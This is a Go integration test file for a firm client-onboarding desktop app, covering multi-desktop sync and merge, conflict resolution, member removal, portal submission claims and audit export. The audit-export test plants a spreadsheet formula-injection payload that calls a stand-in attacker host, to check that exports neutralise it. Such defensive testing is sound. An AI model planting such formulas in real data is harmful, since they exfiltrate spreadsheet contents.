package onboarding_test

import (
	"archive/zip"
	"bytes"
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chorusonboard/chorus-onboard/core"
	"github.com/chorusonboard/chorus-onboard/core/api"
	"github.com/chorusonboard/chorus-onboard/core/connect"
	"github.com/chorusonboard/chorus-onboard/core/firm"
	"github.com/chorusonboard/chorus-onboard/core/memsecrets"
	"github.com/chorusonboard/chorus-onboard/core/onboarding"
	"github.com/chorusonboard/chorus-onboard/core/portal"
	"github.com/chorusonboard/chorus-onboard/core/sim"
	"github.com/chorusonboard/chorus-onboard/core/sqlite"
	"github.com/chorusonboard/chorus-onboard/internal/portaltest"
	"github.com/chorusonboard/chorus-onboard/internal/testos"
)

// firmServer is the firm's server: a chorus-sim on loopback with its
// workspace, and the operator's handle on it.
type firmServer struct {
	srv *sim.Server
	hs  *httptest.Server
	ops *firm.Server
}

func newFirmServer(t *testing.T) *firmServer {
	t.Helper()
	p := portaltest.Start(t, sim.Config{Sandbox: true, SecondFactorOff: true})
	return &firmServer{srv: p.Sim, hs: p.HTTP, ops: p.Sim.Firm()}
}

// desk is one accountant's desktop: its own store and services.
type desk struct {
	t     *testing.T
	email string
	store *sqlite.DB
	svc   onboarding.Services
	dir   string
}

// newDesk opens a desktop for email, an account of the firm's server.
func (fs *firmServer) newDesk(t *testing.T, email string) *desk { return fs.newDeskOn(t, email, nil) }

// newDeskOn is newDesk whose environment's portal is p (nil: none).
func (fs *firmServer) newDeskOn(t *testing.T, email string, p *portal.Onboarding) *desk {
	t.Helper()
	if err := fs.srv.SeedPerson(t.Context(), email, password, strings.Split(email, "@")[0], "Test"); err != nil {
		t.Fatal(err)
	}
	dir := testos.TempDir(t)
	st, err := sqlite.Open(t.Context(), filepath.Join(dir, "onboard.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	keyring := &memsecrets.Store{}
	svc, err := onboarding.New(t.Context(), connect.Stores(st), onboarding.Config{NewOpID: sqlite.NewOpID, SpoolDir: dir, DataDir: dir,
		Connect: func(onboarding.TargetSpec) onboarding.Target {
			if p == nil {
				return onboarding.Target{}
			}
			return connect.On(onboarding.Target{}, p)
		},
		Secrets:     func(core.Environment) core.Secrets { return keyring },
		ConnectFirm: connect.Firm(connect.Options{Getenv: func(string) string { return "" }}),
		DeviceName:  "PC of " + email})
	if err != nil {
		t.Fatal(err)
	}
	return &desk{t: t, email: email, store: st, svc: svc, dir: dir}
}

// join signs in and joins the firm.
func (d *desk) join(url string, bring bool) onboarding.JoinResult {
	d.t.Helper()
	ch, err := d.svc.Firm.SignIn(d.t.Context(), url, d.email, password)
	if err != nil || ch != nil {
		d.t.Fatalf("%s signs in: %v %v", d.email, ch, err)
	}
	res, err := d.svc.Firm.Join(d.t.Context(), bring, nil)
	if err != nil {
		d.t.Fatalf("%s joins: %v", d.email, err)
	}
	return res
}

// sync exchanges with the firm.
func (d *desk) sync() onboarding.FirmRound {
	d.t.Helper()
	r, err := d.svc.Firm.Sync(d.t.Context())
	if err != nil {
		d.t.Fatalf("%s syncs: %v", d.email, err)
	}
	return r
}

// save creates or changes the structure of siret as a person does in the
// form.
func (d *desk) save(siret string, change func(*core.StructureDraft), note string) core.StructureRecord {
	d.t.Helper()
	rec, err := d.bySIRET(siret)
	dr := core.StructureDraft{IdentifierType: core.IDSIRET, Identifier: siret, Kind: core.KindPrivate, CompanyName: "Ateliers Dupont",
		Address: "1 rue de la Paix", City: "Paris", PostalCode: "75002"}
	if err == nil {
		dr = rec.Draft
	}
	change(&dr)
	got, _, err := d.svc.Structures.Save(d.t.Context(), rec.ID, dr, false)
	if err != nil {
		d.t.Fatal(err)
	}
	if note != "" {
		if _, _, err := d.store.Structures.SaveStructure(d.t.Context(), core.SaveStructure{ID: got.ID, Checked: core.CheckStructure(got.Draft),
			Note: note, SetNote: true}); err != nil {
			d.t.Fatal(err)
		}
	}
	return got
}

// bySIRET reads a structure.
func (d *desk) bySIRET(siret string) (core.StructureRecord, error) {
	var found core.StructureRecord
	err := d.store.Structures.EachStructure(d.t.Context(), func(r core.StructureRecord) error {
		if r.Draft.Identifier == siret {
			found = r
		}
		return nil
	})
	if err == nil && found.ID == 0 {
		err = os.ErrNotExist
	}
	return found, err
}

// twoDesks starts the firm's server with a firm whose admin is Ana and
// whose member on every client is Bob, each with a desktop joined to it.
func twoDesks(t *testing.T) (ana, bob *desk) {
	t.Helper()
	fs := newFirmServer(t)
	ana, bob = fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
	if err := fs.ops.CreateFirm(t.Context(), "Cabinet Martin", "ana@cabinet.example"); err != nil {
		t.Fatal(err)
	}
	if err := fs.ops.AddMember(t.Context(), "Cabinet Martin", "bob@cabinet.example", api.FirmEveryClient); err != nil {
		t.Fatal(err)
	}
	ana.join(fs.hs.URL, true)
	bob.join(fs.hs.URL, true)
	return ana, bob
}

// TestTwoDesktopsMerge: two accountants of one firm, with real stores and
// a real server: a client prepared on one arrives on the other; both edit
// it offline, different fields: merged on both; the same field: Conflict
// on the one that sent second, both values kept, resolved there, and the
// resolution arrives on the first.
func TestTwoDesktopsMerge(t *testing.T) {
	ana, bob := twoDesks(t)

	const siret = "73282932000074"
	ana.save(siret, func(*core.StructureDraft) {}, "")
	if r := ana.sync(); r.Sent != 1 {
		t.Fatalf("Ana sent %d", r.Sent)
	}
	if r := bob.sync(); r.Applied.Added != 1 {
		t.Fatalf("Bob got %+v", r.Applied)
	}
	if rec, err := bob.bySIRET(siret); err != nil || rec.Draft.CompanyName != "Ateliers Dupont" {
		t.Fatalf("on Bob's desktop: %+v %v", rec, err)
	}

	// Offline, different fields: merged.
	ana.save(siret, func(d *core.StructureDraft) { d.City = "Lyon"; d.PostalCode = "69003" }, "")
	bob.save(siret, func(d *core.StructureDraft) { d.Email = "compta@dupont.example" }, "rappeler en janvier")
	ana.sync()
	if r := bob.sync(); r.Applied.Merged != 1 || r.Applied.Conflicts != 0 {
		t.Fatalf("Bob's merge: %+v", r.Applied)
	}
	ana.sync()
	for _, d := range []*desk{ana, bob} {
		rec, _ := d.bySIRET(siret)
		if rec.Draft.City != "Lyon" || rec.Draft.Email != "compta@dupont.example" || rec.Note != "rappeler en janvier" {
			t.Fatalf("on %s's desktop: %q %q %q", d.email, rec.Draft.City, rec.Draft.Email, rec.Note)
		}
	}

	// Offline, the same field: Conflict on Bob's, both values kept.
	ana.save(siret, func(d *core.StructureDraft) { d.CompanyName = "Ateliers Dupont et Fils" }, "")
	bob.save(siret, func(d *core.StructureDraft) { d.CompanyName = "Dupont SAS" }, "")
	ana.sync()
	if r := bob.sync(); r.Applied.Conflicts != 1 {
		t.Fatalf("Bob's exchange: %+v", r.Applied)
	}
	rec, _ := bob.bySIRET(siret)
	cs, err := bob.svc.Firm.Conflicts(t.Context(), rec.ID)
	if err != nil || len(cs) != 1 || cs[0].Mine != "Dupont SAS" || cs[0].Theirs != "Ateliers Dupont et Fils" || cs[0].TheirsBy != "ana@cabinet.example" {
		t.Fatalf("conflicts %+v %v", cs, err)
	}
	if rec.Draft.CompanyName != "Dupont SAS" {
		t.Fatalf("Bob's value was lost: %q", rec.Draft.CompanyName)
	}
	// Bob keeps his; it reaches Ana.
	if err := bob.svc.Firm.Resolve(t.Context(), rec.ID, core.ClientFields{core.FieldCompanyName: "Dupont SAS"}); err != nil {
		t.Fatal(err)
	}
	if r := bob.sync(); r.Sent != 1 {
		t.Fatalf("Bob's resolution sent: %d", r.Sent)
	}
	ana.sync()
	if rec, _ := ana.bySIRET(siret); rec.Draft.CompanyName != "Dupont SAS" {
		t.Fatalf("the resolution did not reach Ana: %q", rec.Draft.CompanyName)
	}
	if st := bob.svc.Firm.Status(t.Context()); st.Conflicts != 0 || st.Pending != 0 {
		t.Fatalf("Bob's status: %+v", st)
	}
	hist, err := ana.svc.Firm.History(t.Context(), func() int64 { r, _ := ana.bySIRET(siret); return r.ID }())
	if err != nil || len(hist) < 5 {
		t.Fatalf("history %d %v", len(hist), err)
	}
}

// TestRemovedMemberKeepsNone: a member the admin removes keeps none of the
// firm's clients on their computer; what they typed and did not send is
// saved to a file first.
func TestRemovedMemberKeepsNone(t *testing.T) {
	ana, bob := twoDesks(t)
	ana.save("73282932000074", func(*core.StructureDraft) {}, "")
	ana.sync()
	bob.sync()
	bob.save("73282932000074", func(d *core.StructureDraft) { d.City = "Lyon" }, "")
	members, err := ana.svc.FirmAdmin.Members(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range members {
		if m.Email == "bob@cabinet.example" {
			if _, err := ana.svc.FirmAdmin.RemoveMember(t.Context(), m.AccountID); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := bob.svc.Firm.Sync(t.Context()); core.CodeOf(err) != api.CodeFirmNone {
		t.Fatalf("the removed member's exchange: %v", err)
	}
	if _, err := bob.bySIRET("73282932000074"); err == nil {
		t.Fatal("the firm's client stayed on the removed member's computer")
	}
	st := bob.svc.Firm.Status(t.Context())
	b, err := os.ReadFile(st.Saved)
	if !st.Removed || err != nil || !strings.Contains(string(b), "Lyon") {
		t.Fatalf("status %+v; saved %q %v", st, b, err)
	}
}

// TestOneSubmissionPerClient: two members queue the same client for the
// portal; the first to send it claims it on the firm's server and sends
// it; the second's row is done unsent, the structure said queued by the
// first (the notice names them), and the portal holds the structure once;
// the first's outcome then reaches the second's desktop.
func TestOneSubmissionPerClient(t *testing.T) {
	fs := newFirmServer(t)
	ctx := t.Context()
	anaPortal, bobPortal := portal.NewOnboarding(fs.hs.URL, nil), portal.NewOnboarding(fs.hs.URL, nil)
	ana, bob := fs.newDeskOn(t, "ana@cabinet.example", anaPortal), fs.newDeskOn(t, "bob@cabinet.example", bobPortal)
	if err := fs.ops.CreateFirm(ctx, "Cabinet Martin", "ana@cabinet.example"); err != nil {
		t.Fatal(err)
	}
	if err := fs.ops.AddMember(ctx, "Cabinet Martin", "bob@cabinet.example", api.FirmEveryClient); err != nil {
		t.Fatal(err)
	}
	for who, c := range map[string]*portal.Onboarding{"ana@cabinet.example": anaPortal, "bob@cabinet.example": bobPortal} {
		if _, err := c.SignIn(ctx, who, password); err != nil {
			t.Fatal(err)
		}
	}
	ana.join(fs.hs.URL, true)
	bob.join(fs.hs.URL, true)
	const siret = "73282932000074"
	ana.save(siret, func(*core.StructureDraft) {}, "")
	ana.sync()
	bob.sync()
	for _, d := range []*desk{ana, bob} {
		rec, err := d.bySIRET(siret)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := d.svc.Workspace.QueueStructures(ctx, []int64{rec.ID}, nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := ana.svc.Sync.Drain(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := bob.svc.Sync.Drain(ctx); err != nil {
		t.Fatal(err)
	}
	rec, _ := bob.bySIRET(siret)
	if rec.Sync.State != core.StateQueued || rec.Sync.Notice.Code != api.CodeFirmClaimed || rec.Sync.Notice.Params["by"] != "ana@cabinet.example" {
		t.Fatalf("Bob's row: %+v", rec.Sync)
	}
	if got, _ := ana.bySIRET(siret); got.Sync.State != core.StateCreated {
		t.Fatalf("Ana's: %+v", got.Sync)
	}
	res, err := anaPortal.SearchStructure(ctx, core.IDSIRET, siret)
	if err != nil || !res.Found {
		t.Fatalf("on the portal: %+v %v", res, err)
	}
	// Bob's desktop learns the client was created by Ana's.
	bob.sync()
	ana.sync()
	bob.sync()
	if got, _ := bob.bySIRET(siret); got.Sync.State != core.StateCreated {
		t.Fatalf("Bob's desktop after the exchange: %+v", got.Sync)
	}
}

// TestExportAudit: the admin exports the firm's audit as CSV and as a
// workbook, a line per entry with who changed which field from what to
// what; a value typed to run in a spreadsheet (a note starting with "=")
// is guarded in the CSV and a text cell, never a formula, in the
// workbook; a member who is not admin may not export.
func TestExportAudit(t *testing.T) {
	ana, bob := twoDesks(t)
	const evil = `=HYPERLINK("http://attacker.example/?"&A1,"voir")`
	bob.save("73282932000074", func(d *core.StructureDraft) { d.City = "Lyon" }, evil)
	bob.sync()

	var csvOut bytes.Buffer
	n, err := ana.svc.FirmAdmin.ExportAudit(t.Context(), &csvOut, "csv")
	if err != nil || n == 0 {
		t.Fatalf("CSV export: %d entries, %v", n, err)
	}
	text := csvOut.String()
	lines := strings.Split(strings.TrimRight(text, "\r\n"), "\n")
	if !strings.HasPrefix(text, "\ufeffentry;client;revision;at_utc;by;computer;action;field;old;new") || len(lines) != n+1 {
		t.Fatalf("CSV: %d lines for %d entries:\n%s", len(lines), n, text)
	}
	noteLine := ""
	for _, l := range lines {
		if strings.Contains(l, "HYPERLINK") {
			noteLine = l
		}
	}
	if !strings.Contains(noteLine, `bob@cabinet.example;PC of bob@cabinet.example`) || !strings.Contains(noteLine, `"'=HYPERLINK(`) {
		t.Fatalf("the note's line is not guarded or says not who: %q", noteLine)
	}

	var xlsxOut bytes.Buffer
	if m, err := ana.svc.FirmAdmin.ExportAudit(t.Context(), &xlsxOut, "xlsx"); err != nil || m != n {
		t.Fatalf("workbook export: %d entries (CSV %d), %v", m, n, err)
	}
	zr, err := zip.NewReader(bytes.NewReader(xlsxOut.Bytes()), int64(xlsxOut.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var sheet string
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			sheet += string(b)
		}
	}
	if !strings.Contains(sheet, "=HYPERLINK(") || strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
		t.Fatalf("the workbook's sheet holds no note as text, or a formula:\n%.2000s", sheet)
	}

	if _, err := bob.svc.FirmAdmin.ExportAudit(t.Context(), io.Discard, "csv"); core.KindOf(err) != core.KindForbidden {
		t.Fatalf("a member exports the audit: %v (%v)", err, core.KindOf(err))
	}
}
